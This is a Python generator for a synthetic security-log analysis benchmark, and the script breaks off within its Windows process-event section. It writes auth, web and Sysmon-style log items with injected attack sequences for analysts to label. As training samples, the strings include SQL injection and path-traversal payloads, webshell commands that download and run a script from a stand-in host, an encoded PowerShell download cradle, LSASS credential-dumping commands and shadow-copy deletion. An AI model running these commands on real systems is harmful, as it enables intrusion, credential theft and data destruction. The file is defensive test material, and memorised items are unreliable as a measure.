#!/usr/bin/env python3
"""Deterministic generator for the Haetae log-analysis suite (python3 stdlib only).

    python3 generate.py            # writes items.jsonl and reference_answers.jsonl next to this file
    python3 generate.py --out DIR  # writes them into DIR instead

Every item is a numbered log excerpt (40-150 lines) of one kind (Linux auth, web access, Sysmon-like
process events, DNS query log) with routine background activity and, for most items, exactly one
injected attack sequence. Randomness comes only from random.Random seeded with fixed strings, so
the output is byte-identical on every run and Python 3 version. All addresses are RFC 5737
documentation (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) or RFC 1918 private addresses; all
names are example domains (example.com/.net/.org, *.example).
"""
import argparse
import base64
import json
import os
import random
from datetime import datetime, timedelta

VERSION = "haetae-log-analysis-v1"
LABELS = [
    "ssh-brute-force", "sql-injection", "path-traversal", "webshell", "credential-stuffing",
    "encoded-powershell", "credential-dumping", "ransomware-precursor", "persistence-scheduled-task",
    "dns-tunnelling", "none",
]
MON = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

PUBLIC_POOL = ([f"192.0.2.{i}" for i in range(10, 250)] + [f"198.51.100.{i}" for i in range(10, 250)]
               + [f"203.0.113.{i}" for i in range(10, 250)])

KIND_EN = {
    "auth": "a Linux authentication log (/var/log/auth.log) from one server",
    "web": "a web server access log (Apache combined log format)",
    "process": "Sysmon-style Windows events (process creation, process access, network, file creation) from one workstation",
    "dns": "a DNS resolver query log (BIND style)",
}
KIND_KO = {
    "auth": "서버 한 대의 리눅스 인증 로그(/var/log/auth.log)",
    "web": "웹 서버 접근 로그(Apache combined 형식)",
    "process": "워크스테이션 한 대의 Sysmon 형식 윈도우 이벤트(프로세스 생성, 프로세스 접근, 네트워크, 파일 생성)",
    "dns": "DNS 리졸버 질의 로그(BIND 형식)",
}
VOCAB = ", ".join(LABELS)


def instruction(kind, n, korean):
    if korean:
        return (
            f"당신은 보안관제(SOC) 분석가입니다. 아래는 {KIND_KO[kind]} 발췌본({n}줄)입니다. "
            "각 줄은 네 자리 줄 번호와 \" | \"로 시작합니다.\n"
            "이 발췌본에 공격이 있는지 판단하세요. 공격 시퀀스는 최대 하나이며, 없을 수도 있습니다.\n"
            "다른 설명 없이 JSON 객체 하나로만 답하세요:\n"
            "{\"attack\": \"<레이블>\", \"first_malicious_line\": <공격에 속하는 첫 줄의 번호, 없으면 null>, "
            "\"indicators\": [\"<로그에서 그대로 옮긴 핵심 지표 1-4개: IP 주소, 사용자 이름, URL 경로, 파일 또는 프로세스 이름, 도메인>\"]}\n"
            f"\"attack\"은 다음 중 하나여야 합니다: {VOCAB}.\n"
            "공격이 없으면 {\"attack\": \"none\", \"first_malicious_line\": null, \"indicators\": []}로 답하세요.\n\n"
            "로그:\n"
        )
    return (
        f"You are a SOC analyst. Below is an excerpt of {KIND_EN[kind]} ({n} lines). "
        "Each line starts with its 4-digit line number and \" | \".\n"
        "Decide whether the excerpt contains an attack. At most one attack sequence is present; there may be none.\n"
        "Reply with exactly one JSON object and nothing else:\n"
        "{\"attack\": \"<label>\", \"first_malicious_line\": <number of the first line that belongs to the attack, or null>, "
        "\"indicators\": [\"<1-4 key indicators copied from the log: IP addresses, user names, URL paths, file or process names, domains>\"]}\n"
        f"\"attack\" must be one of: {VOCAB}.\n"
        "If there is no attack, answer {\"attack\": \"none\", \"first_malicious_line\": null, \"indicators\": []}.\n\n"
        "LOG:\n"
    )


# ------------------------------------------------------------------------------------------ events
class Log:
    """Collects (time, seq, is_attack, tag, text) events; text holds a {TS} placeholder."""

    def __init__(self, start, fmt):
        self.start, self.fmt, self.ev = start, fmt, []

    def add(self, t_ms, text, attack=False, tag=None):
        self.ev.append((int(t_ms), len(self.ev), attack, tag, text))

    def count(self, attack=None):
        return sum(1 for e in self.ev if attack is None or e[2] == attack)

    def render(self):
        ev = sorted(self.ev, key=lambda e: (e[0], e[1]))
        lines, tags, first = [], {}, None
        for i, (t, _, attack, tag, text) in enumerate(ev, 1):
            lines.append(text.replace("{TS}", self.fmt(self.start + timedelta(milliseconds=t))))
            if attack and first is None:
                first = i
            if tag is not None:
                tags.setdefault(tag, i)
        self.background_idx = [i for i, e in enumerate(ev) if not e[2]]
        return lines, first, tags


def fmt_auth(dt):
    return f"{MON[dt.month - 1]} {dt.day:2d} {dt:%H:%M:%S}"


def fmt_web(dt):
    return f"{dt.day:02d}/{MON[dt.month - 1]}/{dt.year}:{dt:%H:%M:%S} +0000"


def fmt_proc(dt):
    return f"{dt:%Y-%m-%dT%H:%M:%S}.{dt.microsecond // 1000:03d}Z"


def fmt_dns(dt):
    return f"{dt.day:02d}-{MON[dt.month - 1]}-{dt.year} {dt:%H:%M:%S}.{dt.microsecond // 1000:03d}"


def start_time(rng):
    return datetime(2024, 3, 4, 0, 0, 0) + timedelta(days=rng.randint(0, 20), hours=rng.randint(7, 17),
                                                     minutes=rng.randint(0, 59), seconds=rng.randint(0, 59))


def fill(log, rng, target, window_ms, groups):
    """Add weighted background groups at random times until `target` background lines exist."""
    names = [g[0] for g in groups]
    weights = [g[1] for g in groups]
    while log.count(False) < target:
        fn = groups[names.index(rng.choices(names, weights)[0])][2]
        fn(log, rng, rng.randint(0, window_ms))


# -------------------------------------------------------------------------------------- Linux auth
AUTH_USERS = [("deploy", 1001, "10.20.1.5"), ("alice", 1000, "10.20.3.14"), ("bob", 1002, "10.20.3.22"),
              ("backup", 1005, "10.20.9.3"), ("ansible", 1004, "10.20.0.40")]
SUDO_CMDS = ["/usr/bin/systemctl restart nginx", "/usr/bin/apt-get update", "/usr/bin/journalctl -u app --since today",
             "/usr/bin/tail -n 100 /var/log/syslog", "/usr/sbin/service php8.2-fpm reload", "/usr/bin/docker ps"]
B64CH = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"


class AuthCtx:
    def __init__(self, rng, host):
        self.host, self.pid, self.sid = host, rng.randint(1200, 3000), rng.randint(3000, 9000)

    def npid(self, rng):
        self.pid += rng.randint(3, 90)
        return self.pid

    def nsid(self):
        self.sid += 1
        return self.sid


def auth_groups(ctx, lookalike_typo):
    h = ctx.host

    def cron(log, rng, t):
        p = ctx.npid(rng)
        log.add(t, f"{{TS}} {h} CRON[{p}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
        log.add(t + rng.randint(200, 3000), f"{{TS}} {h} CRON[{p}]: pam_unix(cron:session): session closed for user root")

    def login(log, rng, t):
        u, uid, ip = rng.choice(AUTH_USERS)
        p, port, sid = ctx.npid(rng), rng.randint(40000, 65000), ctx.nsid()
        fp = "".join(rng.choice(B64CH) for _ in range(43))
        log.add(t, f"{{TS}} {h} sshd[{p}]: Accepted publickey for {u} from {ip} port {port} ssh2: ED25519 SHA256:{fp}")
        log.add(t + 40, f"{{TS}} {h} sshd[{p}]: pam_unix(sshd:session): session opened for user {u}(uid={uid}) by (uid=0)")
        log.add(t + 90, f"{{TS}} {h} systemd-logind[612]: New session {sid} of user {u}.")
        t2 = t + rng.randint(30000, 900000)
        log.add(t2, f"{{TS}} {h} sshd[{p}]: Received disconnect from {ip} port {port}:11: disconnected by user")
        log.add(t2 + 5, f"{{TS}} {h} sshd[{p}]: Disconnected from user {u} {ip} port {port}")
        log.add(t2 + 10, f"{{TS}} {h} sshd[{p}]: pam_unix(sshd:session): session closed for user {u}")
        log.add(t2 + 30, f"{{TS}} {h} systemd-logind[612]: Session {sid} logged out. Waiting for processes to exit.")

    def sudo(log, rng, t):
        u, uid, _ = rng.choice(AUTH_USERS[:3])
        log.add(t, f"{{TS}} {h} sudo:    {u} : TTY=pts/{rng.randint(0, 4)} ; PWD=/home/{u} ; USER=root ; COMMAND={rng.choice(SUDO_CMDS)}")
        log.add(t + 10, f"{{TS}} {h} sudo: pam_unix(sudo:session): session opened for user root(uid=0) by {u}(uid={uid})")
        log.add(t + rng.randint(500, 20000), f"{{TS}} {h} sudo: pam_unix(sudo:session): session closed for user root")

    def typo(log, rng, t):
        u, uid, ip = AUTH_USERS[1] if rng.random() < 0.5 else AUTH_USERS[2]
        p, port = ctx.npid(rng), rng.randint(40000, 65000)
        log.add(t, f"{{TS}} {h} sshd[{p}]: Failed password for {u} from {ip} port {port} ssh2")
        log.add(t + rng.randint(3000, 9000), f"{{TS}} {h} sshd[{p}]: Accepted password for {u} from {ip} port {port} ssh2")
        log.add(t + 9100, f"{{TS}} {h} sshd[{p}]: pam_unix(sshd:session): session opened for user {u}(uid={uid}) by (uid=0)")

    g = [("cron", 5, cron), ("login", 3, login), ("sudo", 3, sudo)]
    if lookalike_typo:
        g.append(("typo", 1, typo))
    return g


def make_auth(rng, label, v):
    host = ["web01", "bastion", "db02", "app04"][v % 4]
    ctx = AuthCtx(rng, host)
    log = Log(start_time(rng), fmt_auth)
    window = rng.randint(20, 60) * 60000
    info = {"routine": "cron sessions, public-key logins from internal addresses and routine sudo commands"}
    typo = label == "none" or rng.random() < 0.5
    if label == "ssh-brute-force":
        ip = rng.choice(PUBLIC_POOL)
        target, uid = [("oracle", 1010), ("test", 1011), ("jenkins", 1012), ("support", 1013)][v]
        valid = {"root", target}
        names = ["root", "admin", "test", "oracle", "ubuntu", "user", "postgres", "git", "ftpuser", "pi", "guest", "jenkins", "support"]
        names = [n for n in names if n != target]
        t = rng.randint(window // 10, window // 2)
        tries = rng.randint(10, 24)
        users_tried = set()
        first = True
        for k in range(tries + 3):
            name = target if k >= tries else rng.choice(names)
            users_tried.add(name)
            p, port = ctx.npid(rng), rng.randint(30000, 65000)
            if name in valid:
                log.add(t, f"{{TS}} {host} sshd[{p}]: Failed password for {name} from {ip} port {port} ssh2", True)
            else:
                log.add(t, f"{{TS}} {host} sshd[{p}]: Invalid user {name} from {ip} port {port}", True)
                log.add(t + 300, f"{{TS}} {host} sshd[{p}]: Failed password for invalid user {name} from {ip} port {port} ssh2", True)
                if rng.random() < 0.3:
                    log.add(t + 600, f"{{TS}} {host} sshd[{p}]: Connection closed by invalid user {name} {ip} port {port} [preauth]", True)
            first = False
            t += rng.randint(900, 3500)
        p, port, sid = ctx.npid(rng), rng.randint(30000, 65000), ctx.nsid()
        log.add(t, f"{{TS}} {host} sshd[{p}]: Accepted password for {target} from {ip} port {port} ssh2", True, "accepted")
        log.add(t + 40, f"{{TS}} {host} sshd[{p}]: pam_unix(sshd:session): session opened for user {target}(uid={uid}) by (uid=0)", True)
        log.add(t + 90, f"{{TS}} {host} systemd-logind[612]: New session {sid} of user {target}.", True)
        t += rng.randint(20000, 90000)
        log.add(t, f"{{TS}} {host} sudo:    {target} : TTY=pts/{rng.randint(1, 5)} ; PWD=/home/{target} ; USER=root ; COMMAND=/bin/bash", True, "sudo")
        log.add(t + 10, f"{{TS}} {host} sudo: pam_unix(sudo:session): session opened for user root(uid=0) by {target}(uid={uid})", True)
        info.update(ip=ip, user=target, tries=tries + 3, distinct=len(users_tried))
        del first
    return log, window, auth_groups(ctx, typo), info


# --------------------------------------------------------------------------------------------- web
BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Mobile Safari/537.36",
]
PAGES = ["/", "/index.html", "/about", "/contact", "/products.php?id={n}", "/catalog/item.php?sku=A{n}",
         "/news.php?article={n}", "/blog/spring-sale", "/cart", "/faq"]
ASSETS = ["/static/css/site.css", "/static/js/app.js", "/images/logo.png", "/images/banner-{n}.jpg", "/static/js/vendor.js"]
SEARCHES = ["office+chairs", "standing+desk", "union+jack+cushion", "select+colour+options", "usb-c+hub", "monitor+arm"]
REFS = ["https://shop.example.com/", "https://www.example.org/deals", "-", "https://search.example.net/?q=desk"]


def web_line(ip, method, path, status, size, ref, ua):
    return f'{ip} - - [{{TS}}] "{method} {path} HTTP/1.1" {status} {size} "{ref}" "{ua}"'


def web_groups(clients, lookalike):
    def view(log, rng, t):
        ip, ua = rng.choice(clients)
        page = rng.choice(PAGES).replace("{n}", str(rng.randint(1, 400)))
        log.add(t, web_line(ip, "GET", page, 200, rng.randint(2000, 40000), rng.choice(REFS), ua))
        for k in range(rng.randint(0, 3)):
            a = rng.choice(ASSETS).replace("{n}", str(rng.randint(1, 9)))
            log.add(t + 80 * (k + 1), web_line(ip, "GET", a, rng.choice([200, 200, 304]), rng.randint(300, 90000),
                                               "https://shop.example.com" + page.split("?")[0], ua))

    def health(log, rng, t):
        log.add(t, web_line("10.20.0.9", "GET", "/healthz", 200, 2, "-", "curl/8.5.0"))

    def search(log, rng, t):
        ip, ua = rng.choice(clients)
        log.add(t, web_line(ip, "GET", "/search?q=" + rng.choice(SEARCHES), 200, rng.randint(5000, 30000),
                            "https://shop.example.com/", ua))

    def login(log, rng, t):
        ip, ua = rng.choice(clients)
        log.add(t, web_line(ip, "GET", "/login", 200, 4120, "https://shop.example.com/", ua))
        if rng.random() < 0.3:
            t += rng.randint(4000, 9000)
            log.add(t, web_line(ip, "POST", "/login", 401, 37, "https://shop.example.com/login", ua))
        t += rng.randint(4000, 12000)
        log.add(t, web_line(ip, "POST", "/login", 302, 0, "https://shop.example.com/login", ua))
        log.add(t + 300, web_line(ip, "GET", "/account", 200, rng.randint(6000, 9000), "https://shop.example.com/login", ua))

    def upload(log, rng, t):
        ip, ua = rng.choice(clients)
        log.add(t, web_line(ip, "POST", "/upload.php", 200, 88, "https://shop.example.com/account", ua))
        log.add(t + 400, web_line(ip, "GET", f"/uploads/img_{rng.randint(1000, 9999)}.jpg", 200,
                                  rng.randint(20000, 200000), "https://shop.example.com/account", ua))

    def missing(log, rng, t):
        ip, ua = rng.choice(clients)
        log.add(t, web_line(ip, "GET", "/favicon.ico", 404, 196, "-", ua))

    g = [("view", 10, view), ("health", 2, health), ("search", 2, search), ("login", 2, login), ("missing", 1, missing)]
    if lookalike:
        g.append(("upload", 1, upload))
    return g


def make_web(rng, label, v):
    log = Log(start_time(rng), fmt_web)
    window = rng.randint(10, 30) * 60000
    pool = [ip for ip in PUBLIC_POOL if ip != "198.51.100.23"]  # 198.51.100.23 is the webshell download host
    rng.shuffle(pool)
    attacker = pool.pop()
    clients = [(pool.pop(), rng.choice(BROWSER_UAS)) for _ in range(rng.randint(8, 14))]
    lookalike = label in ("none", "webshell") or rng.random() < 0.4
    info = {"routine": "page views with their assets, health checks and ordinary logins"}
    t = rng.randint(window // 10, window // 2)
    ip = attacker
    if label == "sql-injection":
        path, p, ua = [("/products.php", "id", rng.choice(BROWSER_UAS)), ("/catalog/item.php", "sku", "sqlmap/1.7.2#stable"),
                       ("/news.php", "article", rng.choice(BROWSER_UAS)), ("/api/v1/orders", "order_id", "sqlmap/1.8#stable")][v]
        n = rng.randint(3, 250)
        seq = [(f"{p}={n}%27", 500), (f"{p}={n}%27%20OR%20%271%27=%271", 200), (f"{p}={n}%27+OR+1=1--+-", 200),
               (f"{p}={n}+AND+1=2--+-", 200), (f"{p}={n}+ORDER+BY+10--+-", 500), (f"{p}={n}+ORDER+BY+4--+-", 200),
               (f"{p}=-{n}+UNION+SELECT+1,2,3,4--+-", 200),
               (f"{p}=-{n}+UNION+SELECT+1,version(),database(),user()--+-", 200),
               (f"{p}=-{n}+UNION+SELECT+1,group_concat(table_name),3,4+FROM+information_schema.tables+WHERE+table_schema=database()--+-", 200),
               (f"{p}=-{n}+UNION+SELECT+1,group_concat(username,0x3a,password),3,4+FROM+users--+-", 200)]
        if v in (1, 3):
            seq[4:4] = [(f"{p}={n}+AND+SLEEP(5)--+-", 200), (f"{p}={n}%27+AND+%27a%27=%27a", 200)]
        else:
            seq = [s for i, s in enumerate(seq) if i not in (3,)]
        fast = v in (1, 3)
        for k, (q, st) in enumerate(seq):
            log.add(t, web_line(ip, "GET", f"{path}?{q}", st, rng.randint(400, 9000), "-", ua), True,
                    "union" if "UNION" in q and "union" not in [e[3] for e in log.ev] else None)
            t += rng.randint(150, 900) if fast else rng.randint(2000, 12000)
        info.update(ip=ip, path=path, param=p, n=len(seq), ua=ua)
    elif label == "path-traversal":
        path, p = [("/download.php", "file"), ("/index.php", "page"), ("/api/v1/export", "template"), ("/image", "name")][v]
        ua = rng.choice(BROWSER_UAS + ["curl/8.5.0"])
        seq = [("../../../../etc/passwd", 200 if v != 1 else 400), ("..%2f..%2f..%2f..%2fetc%2fshadow", 403),
               ("....//....//....//....//etc/passwd", 200), ("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts", 200),
               ("../../../../proc/self/environ", 200), ("..%5c..%5c..%5cwindows%5cwin.ini", 404),
               ("../../../../var/www/html/config.php", 200), ("../../../../root/.ssh/id_rsa", 403)]
        seq = seq[:1] + rng.sample(seq[1:], rng.randint(4, 7))
        for q, st in seq:
            log.add(t, web_line(ip, "GET", f"{path}?{p}={q}", st, rng.randint(150, 3000), "-", ua), True)
            t += rng.randint(1500, 9000)
        info.update(ip=ip, path=path, n=len(seq))
    elif label == "webshell":
        up, shell = [("/wp-admin/admin-ajax.php?action=upload_avatar", "/wp-content/uploads/2024/03/avatar_8841.php"),
                     ("/upload.php", "/uploads/img_3321.php"), ("/admin/media/upload", "/media/tmp/thumb_0912.php"),
                     ("/profile/photo", "/uploads/profile/77_x.phtml")][v]
        ua = rng.choice(BROWSER_UAS)
        log.add(t, web_line(ip, "POST", up, 200, rng.randint(60, 200), "https://shop.example.com/account", ua), True, "upload")
        t += rng.randint(2000, 8000)
        cmds = ["id", "whoami", "uname+-a", "pwd", "ls+-la", "cat+config.php", "ps+aux",
                "wget+http://198.51.100.23/b.sh+-O+/tmp/b.sh", "sh+/tmp/b.sh"]
        cmds = cmds[:2] + rng.sample(cmds[2:7], rng.randint(2, 4)) + (cmds[7:] if rng.random() < 0.7 else [])
        for k, c in enumerate(cmds):
            log.add(t, web_line(ip, "GET", f"{shell}?cmd={c}", 200, rng.randint(20, 4000), "-", ua), True,
                    "firstcmd" if k == 0 else None)
            t += rng.randint(3000, 20000)
        info.update(ip=ip, upload=up, shell=shell, n=len(cmds))
    elif label == "credential-stuffing":
        path = ["/login", "/api/v1/auth/login", "/account/login", "/login"][v]
        ua = ["python-requests/2.31.0", "Go-http-client/1.1", "okhttp/4.9.3", "python-requests/2.28.1"][v]
        n = rng.randint(20, 40)
        wins = set(rng.sample(range(5, n), 2))
        for k in range(n):
            st = 302 if k in wins else 401
            log.add(t, web_line(ip, "POST", path, st, 0 if st == 302 else 37, "-", ua), True)
            t += rng.randint(300, 1500)
        limited = rng.randint(2, 4) if v % 2 == 0 else 0
        for _ in range(limited):
            log.add(t, web_line(ip, "POST", path, 429, 19, "-", ua), True)
            t += rng.randint(300, 900)
        log.add(t + 2000, web_line(ip, "GET", "/account", 200, rng.randint(6000, 9000), "-", ua), True, "account")
        info.update(ip=ip, path=path, ua=ua, n=n, wins=len(wins), limited=limited)
    return log, window, web_groups(clients, lookalike), info


# ----------------------------------------------------------------------------------------- process
def eid1(user, pimg, pcmd, img, cmd):
    return (f"{{TS}} {{HOST}} Sysmon EventID=1 ProcessCreate | User: {user} | ParentImage: {pimg} | "
            f"ParentCommandLine: {pcmd} | Image: {img} | CommandLine: {cmd}")


def eid3(user, img, ip, port):
    return f"{{TS}} {{HOST}} Sysmon EventID=3 NetworkConnect | User: {user} | Image: {img} | DestinationIp: {ip} | DestinationPort: {port}"


def eid10(src, access, user):
    return (f"{{TS}} {{HOST}} Sysmon EventID=10 ProcessAccess | SourceImage: {src} | "
            f"TargetImage: C:\\Windows\\system32\\lsass.exe | GrantedAccess: {access} | SourceUser: {user}")


def eid11(user, img, path):
    return f"{{TS}} {{HOST}} Sysmon EventID=11 FileCreate | User: {user} | Image: {img} | TargetFilename: {path}"


SYS = "NT AUTHORITY\\SYSTEM"
EXPLORER = "C:\\Windows\\explorer.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
RUNDLL = "C:\\Windows\\System32\\rundll32.exe"
SVCHOST = "C:\\Windows\\System32\\svchost.exe"
SCHTASKS = "C:\\Windows\\System32\\schtasks.exe"
CERTUTIL = "C:\\Windows\\System32\\certutil.exe"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
DEFENDER = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020-7\\MsMpEng.exe"


def proc_groups(user, uname, lookalike, avoid):
    pool = [ip for ip in PUBLIC_POOL if ip not in avoid]

    def chrome(log, rng, t):
        log.add(t, eid1(user, EXPLORER, "C:\\Windows\\Explorer.EXE", CHROME, "\"" + CHROME + "\""))
        log.add(t + rng.randint(500, 3000), eid3(user, CHROME, rng.choice(pool), 443))

    def office(log, rng, t):
        app, doc = rng.choice([("EXCEL.EXE", f"C:\\Users\\{uname}\\Documents\\Budget_Q1.xlsx"),
                               ("WINWORD.EXE", f"C:\\Users\\{uname}\\Documents\\Minutes_0312.docx"),
                               ("OUTLOOK.EXE", "")])
        cmd = "\"" + OFFICE + app + "\"" + (f" /n \"{doc}\"" if doc else "")
        log.add(t, eid1(user, EXPLORER, "C:\\Windows\\Explorer.EXE", OFFICE + app, cmd))
        if app == "OUTLOOK.EXE":
            log.add(t + rng.randint(800, 4000), eid3(user, OFFICE + app, rng.choice(pool), 443))

    def notepad(log, rng, t):
        log.add(t, eid1(user, EXPLORER, "C:\\Windows\\Explorer.EXE", "C:\\Windows\\System32\\notepad.exe",
                        f"\"C:\\Windows\\System32\\notepad.exe\" C:\\Users\\{uname}\\Desktop\\notes.txt"))

    def svc(log, rng, t):
        s = rng.choice(["BITS", "wuauserv", "Schedule", "DnsCache", "WinHttpAutoProxySvc"])
        log.add(t, eid1(SYS, "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe", SVCHOST,
                        f"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s {s}"))

    def taskhost(log, rng, t):
        log.add(t, eid1(user, SVCHOST, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                        "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe"))

    def defender(log, rng, t):
        log.add(t, eid10(DEFENDER, "0x1000", SYS))

    def inventory(log, rng, t):
        log.add(t, eid1(SYS, SVCHOST, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", PS,
                        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\Inventory.ps1"))

    def control(log, rng, t):
        log.add(t, eid1(user, EXPLORER, "C:\\Windows\\Explorer.EXE", RUNDLL,
                        "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\shell32.dll,Control_RunDLL desk.cpl"))

    def backup(log, rng, t):
        log.add(t, eid1(SYS, "C:\\Program Files\\Corp\\Backup\\backup-agent.exe", "\"C:\\Program Files\\Corp\\Backup\\backup-agent.exe\" --service",
                        "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe list shadows /for=C:"))

    def hashfile(log, rng, t):
        log.add(t, eid1(user, CMD, "\"C:\\Windows\\System32\\cmd.exe\"", CERTUTIL,
                        f"certutil.exe -hashfile C:\\Users\\{uname}\\Downloads\\agent-4.2-x64.msi SHA256"))

    def agent_task(log, rng, t):
        log.add(t, eid1(SYS, "C:\\Windows\\System32\\msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V", SCHTASKS,
                        "schtasks.exe /create /tn CorpAgentUpdate /tr \"C:\\Program Files\\Corp\\Agent\\update.exe\" /sc daily /ru SYSTEM /f"))

    g = [("chrome", 4, chrome), ("office", 3, office), ("notepad", 1, notepad), ("svc", 3, svc), ("taskhost", 2, taskhost),
         ("defender", 2, defender), ("inventory", 1, inventory), ("control", 1, control), ("backup", 1, backup),
         ("hashfile", 1, hashfile)]
    if lookalike:
        g.append(("agent_task", 1, agent_task))
    return g


def ps_blob(url):
    return base64.b64encode(f"IEX (New-Object Net.WebClient).DownloadString('{url}')".encode("utf-16-le")).decode()


def make_process(rng, label, v):
    host, uname = [("WS-FIN-07", "j.kim"), ("WS-HR-12", "s.park"), ("LT-DEV-031", "m.lee"), ("WS-OPS-04", "a.choi")][
        (v + LABELS.index(label)) % 4]
    user = "CORP\\" + uname
    log = Log(start_time(rng), fmt_proc)
    window = rng.randint(30, 90) * 60000
    lookalike = label in ("none", "persistence-scheduled-task") or rng.random() < 0.5
    info = {"host": host, "user": user, "routine": "browser, Office and service start-ups"}
    t = rng.randint(window // 10, window // 2)
    c2 = rng.choice(PUBLIC_POOL)
    if label == "encoded-powershell":
        pimg, lure, pcmd, flags = [
            (OFFICE + "WINWORD.EXE", "Invoice_2024-03.docm", None, "-nop -w hidden -enc"),
            (OFFICE + "EXCEL.EXE", "Payroll_Update.xlsm", None, "-NoP -NonI -W Hidden -EncodedCommand"),
            ("C:\\Windows\\System32\\mshta.exe", "Shipping_Label.hta", None, "-nop -w hidden -e"),
            ("C:\\Windows\\System32\\wscript.exe", "Scan_0318.js", None, "-w 1 -ep bypass -enc"),
        ][v]
        folder = f"C:\\Users\\{uname}\\Downloads\\" if v != 3 else f"C:\\Users\\{uname}\\AppData\\Local\\Temp\\Rar$DIa0.512\\"
        pcmd = f"\"{pimg}\" " + (f"/n \"{folder}{lure}\"" if v < 2 else f"\"{folder}{lure}\"")
        dll = ["wrd7F2.dll", "xl_cache.dll", "msht32.dll", "scn4411.dll"][v]
        blob = ps_blob(f"http://{c2}/a")
        log.add(t, eid1(user, pimg, pcmd, PS, f"powershell.exe {flags} {blob}"), True)
        t += rng.randint(800, 3000)
        log.add(t, eid3(user, PS, c2, 80), True)
        t += rng.randint(1000, 4000)
        tmp = f"C:\\Users\\{uname}\\AppData\\Local\\Temp\\{dll}"
        log.add(t, eid11(user, PS, tmp), True)
        t += rng.randint(500, 2000)
        log.add(t, eid1(user, PS, f"powershell.exe {flags} {blob[:24]}...", RUNDLL, f"rundll32.exe {tmp},DllRegisterServer"), True, "rundll")
        t += rng.randint(2000, 9000)
        log.add(t, eid3(user, RUNDLL, c2, 443), True)
        info.update(lure=lure, parent=pimg.rsplit("\\", 1)[1], c2=c2, dll=dll, flags=flags)
    elif label == "credential-dumping":
        if v == 0:
            tool = "C:\\Users\\Public\\pd64.exe"
            log.add(t, eid1(user, CMD, "\"C:\\Windows\\System32\\cmd.exe\"", tool, "pd64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\l.dmp"), True)
            log.add(t + rng.randint(300, 900), eid10(tool, "0x1fffff", user), True, "access")
            log.add(t + rng.randint(2000, 5000), eid11(user, tool, "C:\\Users\\Public\\l.dmp"), True)
            ind = ["pd64.exe", "lsass.exe", "l.dmp"]
        elif v == 1:
            log.add(t, eid1(user, CMD, "\"C:\\Windows\\System32\\cmd.exe\"", RUNDLL,
                            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Windows\\Temp\\dbg.bin full"), True)
            log.add(t + rng.randint(200, 700), eid10(RUNDLL, "0x1fffff", user), True, "access")
            log.add(t + rng.randint(2000, 6000), eid11(user, RUNDLL, "C:\\Windows\\Temp\\dbg.bin"), True)
            ind = ["comsvcs.dll", "lsass.exe", "dbg.bin"]
        elif v == 2:
            tool = "C:\\ProgramData\\Tools\\m64.exe"
            log.add(t, eid1(user, CMD, "\"C:\\Windows\\System32\\cmd.exe\"", tool,
                            "m64.exe privilege::debug sekurlsa::logonpasswords exit"), True)
            log.add(t + rng.randint(300, 900), eid10(tool, "0x1010", user), True, "access")
            ind = ["m64.exe", "sekurlsa::logonpasswords", "lsass.exe"]
        else:
            tool = f"C:\\Users\\{uname}\\AppData\\Local\\Temp\\svchost.exe"
            log.add(t, eid1(user, CMD, "\"C:\\Windows\\System32\\cmd.exe\"", tool, "svchost.exe -d 652"), True)
            log.add(t + rng.randint(300, 900), eid10(tool, "0x1410", user), True, "access")
            log.add(t + rng.randint(1500, 4000), eid11(user, tool, f"C:\\Users\\{uname}\\AppData\\Local\\Temp\\dbgcore.tmp"), True)
            ind = ["AppData\\Local\\Temp\\svchost.exe", "lsass.exe", "dbgcore.tmp"]
        info.update(ind=ind)
    elif label == "ransomware-precursor":
        dropper = ["C:\\Users\\Public\\svc_upd.exe", "C:\\ProgramData\\winupd\\wupd.exe",
                   f"C:\\Users\\{uname}\\AppData\\Roaming\\sysmon64.exe", "C:\\Windows\\Temp\\tmp5F1A.exe"][v]
        steps = [("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet")]
        rest = [("wmic.exe", "wmic.exe shadowcopy delete /nointeractive"),
                ("bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled No"),
                ("bcdedit.exe", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures"),
                ("wbadmin.exe", "wbadmin.exe delete catalog -quiet"),
                ("net.exe", "net.exe stop MSSQLSERVER /y"),
                ("taskkill.exe", "taskkill.exe /F /IM sqlservr.exe")]
        steps += [s for s in rest if rng.random() < 0.7] or rest[:2]
        runas = user if v % 2 else SYS
        for exe, cmd in steps:
            log.add(t, eid1(runas, dropper, f"\"{dropper}\"", "C:\\Windows\\System32\\" + exe, cmd), True)
            t += rng.randint(300, 2500)
